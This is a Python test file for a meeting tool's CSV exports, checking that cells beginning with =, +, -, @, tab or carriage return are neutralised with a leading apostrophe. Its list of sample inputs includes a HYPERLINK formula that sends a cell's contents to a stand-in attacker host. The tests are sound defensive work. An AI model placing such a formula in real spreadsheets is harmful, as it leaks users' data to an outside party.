"""Every CSV MeetingKit writes (the action log, the glossary) goes through one writer that
neutralises formulas: a cell starting with = + - @, a tab or a carriage return is written with a
leading apostrophe, so a spreadsheet shows it as text instead of running it."""

from __future__ import annotations

import csv
import io

from export_helpers import rich_meeting
from hypothesis import given
from hypothesis import strategies as st

from meetingkit.export.csv_out import FORMULA_START, csv_text, neutralise
from meetingkit.export.glossary_csv import export_glossary_csv
from meetingkit.plain import GlossaryEntry

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_else_changes(cell):
    safe = neutralise(cell)
    assert not safe.startswith(FORMULA_START)
    assert safe == cell or safe == "'" + cell
    (row,) = _cells(csv_text(["Header"], [[cell]]))[1:] or [[""]]
    assert row == [safe]


def test_the_glossary_export_neutralises_formulas(tmp_path):
    entries = [GlossaryEntry(term=term, kind="jargon", plain=("use",), explanation=term)
               for term in HOSTILE] + [GlossaryEntry(term="MDT", kind="acronym",
                                                     expansion="multidisciplinary team")]
    path = export_glossary_csv(entries, tmp_path / "glossary.csv")
    rows = _cells(path.read_bytes().decode("utf-8-sig"))
    assert rows[0][:2] == ["term", "kind"]
    for row, hostile in zip(rows[1:], HOSTILE, strict=False):
        assert row[0] == "'" + hostile and row[4] == "'" + hostile
    assert rows[-1][:3] == ["MDT", "acronym", "multidisciplinary team"]


def test_the_action_log_csv_neutralises_formulas(store, tmp_path):
    from meetingkit.export.actions import export_action_log

    meeting = rich_meeting(store)
    for hostile in HOSTILE:
        store.actions.add(meeting["meeting"], hostile, "-Jo", "2026-04-01", meeting["falls"])
    rows = _cells(export_action_log(store, meeting["committee"], tmp_path / "a.csv")
                  .read_bytes().decode("utf-8-sig"))
    stored = {a.text for a in store.actions.for_meeting(meeting["meeting"])}
    texts = {row[1] for row in rows[1:]}
    assert {"'" + text for text in stored if text.startswith(FORMULA_START)} <= texts
    assert "'" + HOSTILE[0] in texts
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
